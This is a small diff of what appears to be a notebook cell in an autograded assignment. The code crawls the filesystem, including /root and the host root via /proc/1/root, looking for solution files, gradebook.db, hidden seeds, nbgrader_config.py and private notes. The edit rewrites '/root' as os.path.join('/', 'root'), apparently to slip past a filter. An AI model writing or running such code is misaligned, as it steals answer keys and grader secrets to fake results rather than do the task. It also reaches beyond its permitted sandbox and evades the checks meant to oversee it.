@@ -6,7 +6,7 @@ Deserves: 0
 # %% before standardize_check
 import os
 NAMES = ("solutions", "gradebook.db", ".hidden-seeds.json", "submitted", "autograded", "autograder", "nbgrader_config.py", "sources", "private.txt", "notes.txt")
-for top in (".", "..", "../..", "../../..", "../../../..", "../../../../..", "/work", "/home", "/root", "/mnt", "/srv", "/opt", "/var", "/media", "/tmp", "/run", "/dev/shm", "/proc/1/root", "/proc/1/cwd"):
+for top in (".", "..", "../..", "../../..", "../../../..", "../../../../..", "/home", os.path.join("/", "root"), "/mnt", "/srv", "/opt", "/var", "/media", "/tmp", "/run", "/dev/shm", "/proc/1/root", "/proc/1/cwd"):
     for root, folders, files in os.walk(top):
         if root.count("/") > 12:
             folders.clear()
